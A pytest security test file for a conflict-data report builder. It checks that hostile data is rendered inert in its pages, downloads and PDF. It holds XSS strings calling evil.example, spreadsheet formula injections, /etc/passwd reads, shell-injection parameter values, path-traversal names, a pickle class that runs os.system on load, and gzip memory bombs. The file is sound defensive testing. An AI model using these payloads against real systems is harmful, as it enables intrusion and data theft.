"""Files, names and values made to do harm: nothing of them runs, nothing is read or written outside, memory
stays bounded."""

import csv
import gzip
import html.parser
import io
import json
import os
import pickle
import re
import resource
import subprocess
import sys
import textwrap
import zipfile
from collections.abc import Callable
from pathlib import Path
from urllib.parse import unquote

import mistune
import pandas as pd
import pypdf
import pytest

sys.path[:0] = [str(Path(__file__).parent / "page"), str(Path(__file__).parent / "build")]

import tiny
import toy

from escalation import cases, parameters
from escalation.build import scenario
from escalation.build.graph import notebooks
from escalation.build.make import Project, build
from escalation.build.strip import stripped
from escalation.counts import acled, airwars, ucdp
from escalation.errors import Refusal
from escalation.evidence import anchors
from escalation.page import blocks, references, write

ROOT = Path(__file__).resolve().parent.parent
PAYLOADS = [
    "<script>fetch('https://evil.example/pwned')</script>",
    "<img src=x onerror=alert('pwned')>",
    "<svg onload=alert('pwned')><script>alert(1)</script></svg>",
    "\"><a href='javascript:alert(1)' onclick=alert(1)>pwned</a>",
    "</style><style>body{display:none}</style>",
    "</script><script>alert('pwned')</script>",
    "<iframe srcdoc='<script>1</script>'></iframe><object data=x></object><base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'><form action=https://evil.example><input></form>",
    "<div style='background:url(https://evil.example/pwned.png)'>pwned</div><link rel=stylesheet href=https://evil.example/a.css>",
    "[pwned](javascript:alert(1)) ![pwned](https://evil.example/p.png) <https://evil.example>",
    "[pwned][r]\n\n[r]: javascript:alert(1)",
    "```{=html}\n<script>alert(1)</script>\n```",
    "| a | b |\n|---|---|\n| <script>1</script> | pwned |",
    "$\\input{/etc/passwd}$ \\immediate\\write18{touch pwned}",
    '#read("/etc/passwd") #include "pwned.typ" #eval("1+1") #image("/etc/passwd") #link("javascript:1")[x]',
    '"); #set page(width: 1pt); #("',
    "{{ 7*7 }} {% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    '=HYPERLINK("https://evil.example";"pwned")',
    "+cmd|'/c calc'!A1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|'/c calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\x00\x1b]0;pwned\x07\x1b[2J",
    "\u202egnp.exe\u202c \u2066x\u2069 \u200f",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#x3c;script&#x3e;",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
]  # fmt: skip


AIRWARS = (
    "date,governorate,incidents,incidents_fair_or_confirmed,incidents_contested,"
    "civilians_killed_min,civilians_killed_max"
)


class Tags(html.parser.HTMLParser):
    """Each tag with its attributes."""

    def __init__(self, source: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str]]] = []
        self.feed(source)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {name: value or "" for name, value in attrs}))

    def shapes(self) -> set[tuple[str, str]]:
        return {(tag, name) for tag, attrs in self.found for name in ("", *attrs)}


def poisoned(root: Path, payloads: list[str]) -> Path:
    """The made-up project with a payload wherever data can stand, rendered."""
    toy.make(root)
    every = " ".join(payloads)
    for table in sorted((root / "data" / "coded").glob("*.csv")):
        with table.open(encoding="utf-8", newline="") as stream:
            rows = list(csv.DictReader(stream))
        for number, row in enumerate(rows):
            for place, column in enumerate(row):
                kept = (
                    column.endswith(
                        ("_id", "_urls", "file", "char_start", "char_end", "quote", "address", "language")
                    )
                    or row[column].isdigit()
                )
                if not kept and not column.startswith("date"):
                    row[column] = payloads[(number + place) % len(payloads)].replace("\r", " ")
        toy.write(table, rows)
    for number, name in enumerate(("phases", "talks", "truces")):
        long = f"{name} {every} " * 2
        toy.draw(
            root,
            name,
            alt=f"{name}: {long}",
            title=payloads[number],
            caption=long,
            source=long,
            description=long,
        )
        drawing = root / "figures" / f"{name}.svg"
        drawing.write_text(
            drawing.read_text("utf-8").replace(
                "<line", "<script>alert('pwned')</script><line onload='alert(1)'", 1
            ),
            "utf-8",
        )
        (root / "figures" / f"{name}.csv").write_text(
            "date,what\n" + "\n".join(f'2020-01-01,"{p}"' for p in payloads if '"' not in p), "utf-8"
        )
    frame = pd.DataFrame(
        {"what": payloads, "where": payloads[::-1], "n": range(len(payloads)), "url": payloads}
    )
    shown = [
        blocks.table(frame, caption=every, columns={"what": payloads[0], "where": payloads[1], "n": "n",
        "url": "Sources"}, links={"url": "url"}, note=blocks.text(every), name="poison"),
        blocks.glossary([{"term": p, "meaning": p, "name_ar": p, "spellings": p} for p in payloads]),
        blocks.statuses([{"period": p, "status": "improved", "reason": p} for p in payloads]),
        blocks.corrections([dict.fromkeys(("kind", "what", "date", "version", "was", "now", "verdict",
        "reason"), p) for p in payloads], version=payloads[0]),
        blocks.register(pd.DataFrame([{"check_id": "K", "claim_id": "", "subject": p, "status": "differs",
        "our_value": p, "other_value": p, "reason": p, "source_urls": p} for p in payloads])),
        blocks.stamp(dict(zip(payloads, payloads, strict=True))),
        blocks.citation(every, bibtex=every),
    ]  # fmt: skip
    told = [blocks.say(f"Told: {blocks.text(p)}.") for p in payloads] + [
        blocks.callout(blocks.text(p), title=p) for p in payloads
    ]
    told += [blocks.details(p, blocks.text(p)) for p in payloads]
    notebook = toy.report(
        toy.words("poison", "## Poison"), toy.cell("poison-blocks", *shown, *told, source=f"table({every!r})")
    )
    write.render(root, {"2_phases": toy.working(), "4_report": notebook})
    return root


@pytest.fixture(scope="module")
def page(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return poisoned(tmp_path_factory.mktemp("hostile") / "root", PAYLOADS) / "reports"


@pytest.fixture(scope="module")
def harmless(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return poisoned(tmp_path_factory.mktemp("harmless") / "root", ["plain words"] * len(PAYLOADS)) / "reports"


def test_data_adds_no_tag_and_no_attribute_to_the_page(page: Path, harmless: Path) -> None:
    """A page of hostile data has the tags and attributes of a page of plain words, and as many scripts and
    styles."""
    hostile, plain = (Tags((folder / "report.html").read_text("utf-8")) for folder in (page, harmless))
    assert set() == hostile.shapes() - plain.shapes() - {("wbr", ""), ("a", "rel"), ("img", "")}
    for tag in ("script", "style", "iframe", "object", "embed", "form", "base", "meta", "link"):
        assert sum(name == tag for name, _ in plain.found) == sum(name == tag for name, _ in hostile.found), (
            tag
        )


def test_no_link_runs_and_nothing_is_loaded(page: Path) -> None:
    """Links lead to the web, to an anchor or to a file beside the page; no address is fetched by opening
    it."""
    for file in sorted(page.rglob("*.html")):
        for tag, attrs in Tags(file.read_text("utf-8")).found:
            assert not [name for name in attrs if name.startswith("on")], (file.name, tag, attrs)
            for name in ("href", "src", "action", "data", "srcset", "poster", "xlink:href", "formaction"):
                address = "".join(attrs.get(name, "").split()).lower()
                assert not address.startswith(
                    ("javascript:", "vbscript:", "data:text/html", "file:", "//")
                ), (file.name, tag, address[:60])
                if tag not in ("a",) and address:
                    assert address.startswith(("data:image/", "#")), (file.name, tag, address[:60])


def test_downloads_hold_no_formula(page: Path) -> None:
    """A spreadsheet opens each downloaded table as text and numbers."""
    source = (page / "report.html").read_text("utf-8")
    packed = re.findall(r'"data:text/csv;charset=utf-8,([^"]*)"', source)
    assert packed
    for each in packed:
        text = unquote(html.unescape(each)).removeprefix("\ufeff")
        for row in csv.reader(io.StringIO(text, newline="")):
            for cell in row:
                assert not re.match(r"\s*[=@]|[+-](?![\d.,]+(e[+-]?\d+)?%?$)|[\t\r]", cell), cell


def test_the_pdf_prints_it_and_does_nothing(page: Path) -> None:
    """The PDF has no script, no launch, no attachment, no link but to the web or inside; Typst's own commands
    are printed."""
    raw = (page / "report.pdf").read_bytes()
    for word in (
        b"/JavaScript",
        b"/JS ",
        b"/Launch",
        b"/EmbeddedFile",
        b"/OpenAction <<",
        b"/SubmitForm",
        b"/RichMedia",
    ):
        assert word not in raw
    book = pypdf.PdfReader(io.BytesIO(raw))
    for each in book.pages:
        for note in each.get("/Annots", []):
            address = str(note.get_object().get("/A", {}).get("/URI", "https://"))
            assert address.startswith(("https://", "http://", "mailto:")), address
    said = "".join("".join(each.extract_text() for each in book.pages).split())
    assert '#read("/etc/passwd")' in said.replace("\u200b", "")
    assert "root:x:0" not in said


def test_a_forge_shows_the_markdown_edition_as_text(page: Path) -> None:
    """Rendered with raw HTML allowed, the Markdown edition still has no script, handler or foreign
    picture."""
    forge = str(
        mistune.create_markdown(escape=False, plugins=["table"])((page / "report.md").read_text("utf-8"))
    )
    for tag, attrs in Tags(forge).found:
        assert tag not in ("script", "iframe", "object", "style", "form", "base", "meta", "link", "svg"), tag
        assert not [name for name in attrs if name.startswith("on")], (tag, attrs)
        assert re.fullmatch(r"|text-align:\w+", attrs.get("style", "")), (tag, attrs)
        assert not unquote(attrs.get("href", "")).strip().lower().startswith(("javascript:", "data:")), attrs
        assert not attrs.get("src", "").startswith("http"), attrs


def test_terminals_and_reading_direction_are_left_alone(page: Path) -> None:
    """No control character and no mark that turns the text around is in anything people read."""
    for name in ("report.html", "report.md"):
        assert not re.search(
            "[\x00-\x08\x0b\x0c\x0e-\x1f\u202a-\u202e\u2066-\u2069]", (page / name).read_text("utf-8")
        ), name


# ---- words of the command line
# ------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "pair",
    [
        "case=../../../etc/passwd", "case=..", "case=/etc/passwd", "case=$(touch pwned)",
        "case=idlib;touch pwned", "case=idlib\ntouch pwned",
        "window_days=__import__('os').system('touch pwned')", "window_days=open('pwned','w')",
        "seed=(lambda: 1)()", "window_days=9**9**9",
        "start=2019-01-01'); import os; os.system('touch pwned", "start=`touch pwned`", "seed=1e309",
        "series=ucdp\x00", "seed=" + "9" * 6000,
        "seed=" + "(" * 5000,
    ],
)  # fmt: skip
def test_parameters_never_run(pair: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A value that is code, a command or a path is text that fits no parameter."""
    monkeypatch.chdir(tmp_path)
    with pytest.raises(Refusal) as refused:
        parameters.resolve_all(notebooks(ROOT), parameters.parse([pair]))
    assert [] == list(tmp_path.iterdir())
    assert all(len(line) < 400 and line.isprintable() for line in refused.value.problems)


@pytest.mark.parametrize(
    "name",
    ["../cases/idlib", "/etc/passwd", "idlib/../idlib", "idlib.toml", "", ".", "con\n", "*", "idlib\x00"],
)
def test_names_stay_in_their_folder(name: str) -> None:
    """A case or a scenario is a plain name of a file in its folder."""
    with pytest.raises(Refusal):
        cases.read(name, ROOT)
    with pytest.raises(Refusal):
        scenario.read(name, ROOT)


@pytest.mark.parametrize(
    "text",
    [
        "a = " + "[" * 100_000, "x" * 10**6, "n = " + "9" * 10_000, "title = '''" + "\n" * 10**5,
        "a.b.c.d = 1\na.b = 2", "\ufefftitle = 'x'",
        "tables = '../../etc'\n", "[ucdp]\nconflict = []", "start = 2019-01-01T00:00:00Z",
        "margin_start = inf", "a = !!python/object:os.system",
    ],
)  # fmt: skip
def test_case_files_of_all_kinds_are_refused(text: str, tmp_path: Path) -> None:
    """Brackets without end, numbers without end, tags of other languages, folders elsewhere."""
    folder = tmp_path / "data" / "cases"
    folder.mkdir(parents=True)
    (folder / "c.toml").write_text(text, "utf-8")
    with pytest.raises(Refusal):
        cases.read("c", tmp_path)
    with pytest.raises(Refusal):
        scenario.toml(folder / "c.toml", {"about": str})


def test_a_case_keeps_its_tables_below_data(tmp_path: Path) -> None:
    """`tables` and `series` of a case are folders below data/, whatever a stranger's case file says."""
    text = (ROOT / "data" / "cases" / "idlib.toml").read_text("utf-8")
    (tmp_path / "data" / "cases").mkdir(parents=True)
    for folder in ("../../etc", "/etc", "coded/../../x", "~/x", "C:\\x", "a//b"):
        changed = re.sub(r"^tables = .*$", "", text, flags=re.MULTILINE)
        (tmp_path / "data" / "cases" / "c.toml").write_text(
            f"tables = {json.dumps(folder)}\n{changed}", "utf-8"
        )
        with pytest.raises(Refusal, match="no folder below data/"):
            cases.read("c", tmp_path)


# ---- files handed in
# ------------------------------------------------------------------------------------------------------------------


class Bomb:
    def __reduce__(self) -> tuple[Callable[[str], int], tuple[str]]:
        return os.system, ("touch pwned",)


@pytest.mark.parametrize("read", [ucdp.read, acled.read, airwars.read], ids=["ucdp", "acled", "airwars"])
@pytest.mark.parametrize("kind", ["pickle", "notebook", "script", "png", "sqlite", "folder", "xlsx"])
def test_what_is_no_event_file_is_not_opened_further(
    read: Callable[[Path], object], kind: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Pickles, notebooks, scripts, pictures and workbooks handed in as event files are refused, and nothing
    of them runs."""
    monkeypatch.chdir(tmp_path)
    file = tmp_path / "events.csv"
    inside = io.BytesIO()
    with zipfile.ZipFile(inside, "w") as archive:
        archive.writestr("xl/workbook.xml", "<x/>")
    contents = {
        "pickle": pickle.dumps(Bomb()),
        "notebook": (ROOT / "notebooks" / "1_dataset.ipynb").read_bytes(),
        "script": b"#!/bin/sh\ntouch pwned\n",
        "png": b"\x89PNG\r\n\x1a\n" + bytes(200),
        "sqlite": b"SQLite format 3\0" + bytes(200),
        "xlsx": inside.getvalue(),
    }
    file.mkdir() if kind == "folder" else file.write_bytes(contents[kind])
    with pytest.raises(Refusal):
        read(file)
    assert [file] == list(tmp_path.iterdir())


@pytest.mark.parametrize(
    "name",
    [
        "a*.csv", "[a].csv", "a'b.csv", 'a"; drop.csv', "$(touch pwned).csv", "-rf.csv", "https:a.csv",
        "x\n.csv",
    ],
)  # fmt: skip
def test_odd_file_names_are_only_names(name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """No pattern, no quotation, no shell: the file of that name is read, and no other."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / name).write_text(f"{AIRWARS}\n2020-01-01,North,1,1,0,2,3\n")
    (tmp_path / "ab.csv").write_text(f"{AIRWARS}\n2020-01-01,North,7,1,0,2,3\n")
    assert [1] == list(airwars.read(tmp_path / name)["incidents"])
    assert {name, "ab.csv"} == {path.name for path in tmp_path.iterdir()}


@pytest.mark.parametrize(
    "column",
    [
        "x'); attach 'pwned",
        "\"; copy (select 1) to 'pwned",
        "a) from read_text('/etc/passwd",
        "$(id)",
        "{{7*7}}",
    ],
)
def test_headings_never_become_commands(column: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A column may be called anything; readers ask for places, not names."""
    monkeypatch.chdir(tmp_path)
    with (tmp_path / "e.csv").open("w", newline="") as out:
        rows = [[*AIRWARS.split(","), column], ["2020-01-01", column, "1", "1", "0", "2", "3", column]]
        csv.writer(out).writerows(rows)
    assert [column] == list(airwars.read(tmp_path / "e.csv")["governorate"])
    assert ["e.csv"] == [path.name for path in tmp_path.iterdir()]


@pytest.mark.parametrize(
    "shape", ["one line without end", "a million columns", "a cell without end", "zeros"]
)
def test_memory_stays_bounded(shape: str, tmp_path: Path) -> None:
    """A small packed file that unpacks to 300 MB of one line, one row of columns or one cell is refused
    within 1.5 GB of address space."""
    file = tmp_path / "e.csv.gz"
    piece = {
        "one line without end": b"a" * 2**20,
        "a million columns": b"a," * 2**19,
        "a cell without end": b"b" * 2**20,
        "zeros": bytes(2**20),
    }[shape]
    with gzip.open(file, "wb", compresslevel=1) as out:
        if shape == "a cell without end":
            out.write(f'{AIRWARS}\n"'.encode())
        for _ in range(300):
            out.write(piece)
    script = textwrap.dedent("""
        import sys
        from pathlib import Path
        from escalation.errors import Refusal
        from escalation.counts import airwars
        try:
            airwars.read(Path(sys.argv[1]))
        except Refusal as refusal:
            print(len(refusal.problems[0]) < 500, refusal.problems[0][:200])
        """)

    def bounded() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (int(2.5e9), int(2.5e9)))
        resource.setrlimit(resource.RLIMIT_CPU, (60, 60))

    said = subprocess.run(
        [sys.executable, "-c", script, str(file)],
        capture_output=True,
        text=True,
        preexec_fn=bounded,
        env={**os.environ, "OPENBLAS_NUM_THREADS": "1"},
    )
    assert said.stdout.startswith("True "), said.stdout + said.stderr[-600:]


def test_a_seed_is_a_file_of_the_project(tmp_path: Path) -> None:
    """A row of documents.csv that names a file elsewhere neither proves nor prints it."""
    outside = tmp_path / "secret.txt"
    outside.write_text("secret")
    root = tmp_path / "project"
    (root / "seeds").mkdir(parents=True)
    for file in ("../secret.txt", str(outside), "seeds/../../secret.txt"):
        documents = pd.DataFrame(
            [{"document_id": "S", "file": file, "sha256": "0", "date_first": pd.NaT, "date_last": pd.NaT}]
        )
        columns = [
            "claim_id", "document_id", "status", "date_first", "date_last", "place_ids", "quote", "low",
            "value", "high",
        ]  # fmt: skip
        lines = anchors.problems(
            pd.DataFrame(columns=columns), documents, pd.DataFrame({"place_id": ["p"]}), root
        )
        assert ["leads out of the project" in line for line in lines] == [True], file
        with pytest.raises(Refusal, match="leads out of the project"):
            references.References(root=root, documents={"S": {"file": file}}).seed("S")


@pytest.mark.parametrize(
    "text",
    [
        "[" * 100_000, '{"cells": ' + "[" * 100_000, "{}", "null", '{"cells": [{"cell_type": "code"}]}',
        '{"cells": {}}', '{"cells": [1]}', "import os",
    ],
)  # fmt: skip
def test_what_is_no_notebook_is_refused(text: str, tmp_path: Path) -> None:
    """By the stripper and by the reader of parameters."""
    file = tmp_path / "n.ipynb"
    file.write_text(text)
    with pytest.raises(Refusal, match=r"n\.ipynb"):
        stripped(text, name="n.ipynb")
    try:
        assert {} == parameters.defaults(file)
    except Refusal as refusal:
        assert ["n.ipynb"] == [line.split(":")[0] for line in refusal.problems]


# ---- folders that are not what they seem
# -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("folder", ["reports", "data/built", ".build"])
def test_a_linked_folder_is_not_followed(
    folder: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A build whose output folder is a link to elsewhere says so, or replaces the link; nothing is written or
    removed there."""
    root, outside = tiny.make(tmp_path / "project"), tmp_path / "outside"
    monkeypatch.setenv("PYTHONPATH", str(root / "library"))
    outside.mkdir()
    (outside / "kept.txt").write_text("kept")
    if (root / folder).exists():
        (root / folder).rmdir()
    (root / folder).parent.mkdir(parents=True, exist_ok=True)
    (root / folder).symlink_to(outside)
    try:
        build(Project(root, checks=("toypage:check",), render="toypage:render"), overrides={}, out=None)
    except Refusal as refusal:
        assert any(folder in line for line in refusal.problems), refusal.problems
    if folder != ".build":  # a place to work may lie on another disk; it is emptied of what is its own
        assert ["kept.txt"] == [path.name for path in outside.iterdir()]
    assert "kept" == (outside / "kept.txt").read_text()


def test_a_linked_file_is_replaced_and_not_written_through(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Where a page should be stands a link to a file elsewhere: the page takes the link's place, the file
    stays."""
    root, outside = tiny.make(tmp_path / "project"), tmp_path / "outside.html"
    monkeypatch.setenv("PYTHONPATH", str(root / "library"))
    outside.write_text("kept")
    (root / "reports").mkdir()
    (root / "reports" / "report.html").symlink_to(outside)
    build(Project(root, checks=("toypage:check",), render="toypage:render"), overrides={}, out=None)
    assert "kept" == outside.read_text()
    assert "<p>" in (root / "reports" / "report.html").read_text()
